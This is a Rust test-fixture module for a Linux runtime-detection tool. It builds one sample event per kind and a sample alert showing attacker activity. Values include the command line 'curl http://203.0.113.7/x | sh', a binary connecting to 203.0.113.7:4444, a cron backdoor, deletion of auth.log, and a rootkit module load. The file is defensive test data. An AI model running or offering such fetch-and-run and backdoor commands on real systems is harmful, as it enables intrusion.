//! Realistic sample events (one per kind) and a sample alert, for tests of
//! this crate and of the crates that consume events (feature `samples`).
//! Values follow what the sensors really produce (crates/sensor
//! convert_tests.rs): resolved paths, static syscall and flag names, a
//! container with metadata, ancestry up to init.

use std::collections::BTreeMap;

use crate::body::*;
use crate::kind::EventKind;
use crate::names;
use crate::{Action, Alert, AlertProcess, Ancestor, Container, Event, KillBy, Process, RuleRef, Severity};

/// 2026-11-23T12:00:00.123456789Z.
pub const TIME_UNIX_NS: u64 = 1_795_435_200_123_456_789;

/// `bash` (pid 4242) in a Docker container, started by containerd-shim.
pub fn process() -> Process {
    Process {
        pid: 4242,
        tid: 4242,
        ppid: 4200,
        uid: 1000,
        gid: 1000,
        euid: 1000,
        egid: 1000,
        comm: "bash".into(),
        exe: Some("/usr/bin/bash".into()),
        cmdline: Some("bash -c curl http://203.0.113.7/x | sh".into()),
        cwd: Some("/home/alice".into()),
        user: Some("alice".into()),
        exec_id: Some("9f3c2a1b:5123456789:4242".into()),
        parent_exec_id: Some("9f3c2a1b:5000000000:4200".into()),
        start_boot_ns: 5_123_456_789,
        cgroup_id: 7_361,
        cgroup: Some(
            "/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope".into(),
        ),
        ancestors: ancestors(5).into(),
    }
}

/// `n` ancestors, parent first (the last of the five is init; more than
/// five repeat the chain).
pub fn ancestors(n: usize) -> Vec<Ancestor> {
    let chain = [
        (4200, "/usr/bin/sshd", "sshd: alice@pts/0"),
        (4100, "/usr/bin/sshd", "sshd: alice [priv]"),
        (900, "/usr/sbin/sshd", "/usr/sbin/sshd -D"),
        (850, "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby"),
        (1, "/usr/lib/systemd/systemd", "/sbin/init splash"),
    ];
    chain
        .iter()
        .cycle()
        .take(n)
        .enumerate()
        .map(|(i, (pid, exe, cmdline))| Ancestor {
            pid: *pid,
            exec_id: Some(format!("9f3c2a1b:{}:{pid}", 5_000_000_000u64.saturating_sub(i as u64 * 1_000_000))),
            exe: Some((*exe).into()),
            cmdline: Some((*cmdline).into()),
        })
        .collect()
}

/// A Docker container with full metadata.
pub fn container() -> Container {
    Container {
        id: "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef".into(),
        name: Some("web".into()),
        image: Some("nginx:1.27".into()),
        image_id: Some("sha256:4f1d2c3b4a5968778695a4b3c2d1e0f0123456789abcdef0123456789abcdef".into()),
        runtime: "docker".into(),
        pod: None,
        namespace: None,
        pod_uid: None,
        labels: BTreeMap::from([("com.example.team".into(), "payments".into()), ("env".into(), "prod".into())]),
    }
}

/// One realistic body per kind.
#[allow(clippy::needless_update)]
pub fn body(kind: EventKind) -> Body {
    let inet = |ip: &str, port| SockAddr::Inet { ip: ip.parse().unwrap_or([0, 0, 0, 0].into()), port };
    match kind {
        EventKind::Exec => Body::Exec(Exec {
            filename: "/tmp/x".into(),
            file: Some("/tmp/x".into()),
            argv: vec!["/tmp/x".into(), "--connect".into(), "203.0.113.7:4444".into()],
            argv_truncated: false,
            cwd: Some("/home/alice".into()),
            result: 0,
            memfd: false,
            deleted: false,
            inode: 1_234_567,
            nlink: 1,
            fs: names::fs_name(0x0102_1994).map(String::from),
            cgroup: Some("/system.slice/docker-0123.scope".into()),
            // Fields added later (e.g. by the kill path) start at their default.
            ..Exec::default()
        }),
        EventKind::Fork => {
            Body::Fork(Fork { child_pid: 4300, child_tid: 4300, thread: false, child_start_boot_ns: 9_000_000_000 })
        }
        EventKind::Exit => Body::Exit(Exit { code: None, signal: Some(9), core_dumped: false }),
        EventKind::FileOpen => Body::FileOpen(FileOpen {
            path: "/etc/cron.d/backdoor".into(),
            raw_path: "cron.d/backdoor".into(),
            syscall: "openat",
            flags: 0o1101,
            flags_names: names::open_flags(0o1101),
            mode: 0o644,
            reason: OpenReason::Write,
            result: 3,
        }),
        EventKind::FileRename => Body::FileRename(FileRename {
            path: "/tmp/.x".into(),
            new_path: "/usr/local/bin/sshd".into(),
            syscall: "renameat2",
            flags: 1,
            result: 0,
        }),
        EventKind::FileUnlink => {
            Body::FileUnlink(FilePath { path: "/var/log/auth.log".into(), syscall: "unlinkat", flags: 0, result: 0 })
        }
        EventKind::FileChmod => Body::FileChmod(FileChmod {
            path: "/tmp/x".into(),
            syscall: "fchmodat",
            mode: 0o104755,
            mode_octal: "0o4755".into(),
            result: 0,
        }),
        EventKind::FileChown => {
            Body::FileChown(FileChown { path: "/tmp/x".into(), syscall: "fchownat", uid: 0, gid: u32::MAX, result: 0 })
        }
        EventKind::NetConnect => Body::NetConnect(NetAddr {
            fd: 5,
            addr: Some(inet("203.0.113.7", 4444)),
            socket_type: names::socket_type(1),
            protocol: Some(names::ip_protocol(6)),
            result: -115,
        }),
        EventKind::NetBind => Body::NetBind(NetAddr {
            fd: 3,
            addr: Some(SockAddr::Unix { path: "@hidden".into() }),
            socket_type: names::socket_type(5),
            protocol: Some("0".into()),
            result: 0,
        }),
        EventKind::NetListen => Body::NetListen(NetListen {
            fd: 3,
            local: Some(inet("0.0.0.0", 31337)),
            backlog: 128,
            socket_type: names::socket_type(1),
            protocol: Some(names::ip_protocol(6)),
            result: 0,
        }),
        EventKind::NetAccept => Body::NetAccept(NetAccept {
            fd: 3,
            peer: Some(SockAddr::Inet6 { ip: "2001:db8::7".parse().unwrap_or([0u16; 8].into()), port: 51234 }),
            local: Some(SockAddr::Inet6 { ip: "::1".parse().unwrap_or([0u16; 8].into()), port: 443 }),
            socket_type: names::socket_type(1),
            protocol: Some(names::ip_protocol(6)),
            syscall: "accept4",
            result: 7,
        }),
        EventKind::Ptrace => Body::Ptrace(Ptrace {
            request: 16,
            request_name: names::ptrace_request(16),
            target_pid: 1,
            addr: 0,
            data: 0,
            result: 0,
        }),
        EventKind::ModuleLoad => Body::ModuleLoad(ModuleLoad {
            syscall: "finit_module",
            path: Some("/tmp/rootkit.ko".into()),
            params: "debug=1".into(),
            flags: 0,
            result: 0,
        }),
        EventKind::MemfdCreate => Body::MemfdCreate(MemfdCreate { name: "payload".into(), flags: 1, result: 4 }),
        EventKind::Setid => Body::Setid(Setid { syscall: "setresuid", ids: vec![0, 0, u32::MAX], result: 0 }),
        EventKind::Capset => Body::Capset(Capset {
            target_pid: 0,
            effective: 0x1ff_ffff_ffff,
            permitted: 0x1ff_ffff_ffff,
            inheritable: 0,
            result: 0,
        }),
        EventKind::Mount => Body::Mount(Mount {
            source: "/dev/sda1".into(),
            target: "/mnt/host".into(),
            fstype: "ext4".into(),
            flags: 0x1000,
            result: 0,
        }),
        EventKind::Umount => Body::Umount(Umount { target: "/mnt/host".into(), flags: 2, result: -16 }),
        EventKind::Unshare => {
            Body::Unshare(Unshare { flags: 0x5002_0000, namespaces: names::namespace_flags(0x5002_0000), result: 0 })
        }
        EventKind::Setns => Body::Setns(Setns {
            fd: 3,
            nstype: 0x2000_0000,
            namespaces: names::namespace_flags(0x2000_0000),
            ns_file: Some("pid:[4026531836]".into()),
            result: 0,
        }),
        EventKind::Bpf => Body::Bpf(Bpf { cmd: 5, cmd_name: names::bpf_cmd(5), prog_or_map_type: Some(1), result: 5 }),
        EventKind::Kill => Body::Kill(Kill { syscall: "tgkill", target_pid: 77, signal: 9, result: 0 }),
        EventKind::AssetChange => Body::AssetChange(AssetChange {
            table: "sockets".into(),
            change: "added".into(),
            key: "|tcp|0.0.0.0|4444|".into(),
            summary: "new listening port tcp 0.0.0.0:4444 (nc pid 4242)".into(),
            details: BTreeMap::from([
                ("proto".into(), "tcp".into()),
                ("local_port".into(), "4444".into()),
                ("pid".into(), "4242".into()),
            ]),
        }),
        EventKind::Loss => Body::Loss(Loss {
            hop: "sensor_queue".into(),
            by_kind: BTreeMap::from([("exec".into(), 3), ("file_open".into(), 7)]),
            count: 10,
            total: 12,
        }),
    }
}

/// A realistic event of `kind`: the sample process in the sample container.
pub fn event(kind: EventKind) -> Event {
    Event {
        time_boot_ns: 9_876_543_210,
        time_unix_ns: TIME_UNIX_NS,
        process: process().into(),
        container: Some(container()),
        body: body(kind),
    }
}

/// One sample event per kind, in [`EventKind::ALL`] order.
pub fn all_kinds() -> Vec<Event> {
    EventKind::ALL.iter().map(|k| event(*k)).collect()
}

/// An alert for the sample exec: a temp-dir binary, killed by the kernel.
pub fn alert() -> Alert {
    let ev = event(EventKind::Exec);
    let p = &ev.process;
    Alert {
        time_unix_ns: ev.time_unix_ns,
        rule: RuleRef {
            id: "exec_from_temp_dir".into(),
            title: Some("Execution from a temp directory".into()),
            source: "rules/default/execution.yml".into(),
            author: None,
        },
        severity: Severity::High,
        mitre: vec!["T1059".into()],
        tags: vec!["execution".into()],
        message: "/tmp/x ran from a temp dir (parent /usr/bin/sshd)".into(),
        process: AlertProcess {
            pid: p.pid,
            exec_id: p.exec_id.clone(),
            exe: Some("/tmp/x".into()),
            cmdline: Some("/tmp/x --connect 203.0.113.7:4444".into()),
            uid: p.uid,
            user: p.user.clone(),
            cwd: p.cwd.clone(),
            ancestors: p.ancestors.clone(),
        },
        container: ev.container.clone(),
        events: vec![ev],
        action: Action::Kill { by: KillBy::Kernel, ok: true, error: None },
        suppressed: 2,
    }
}
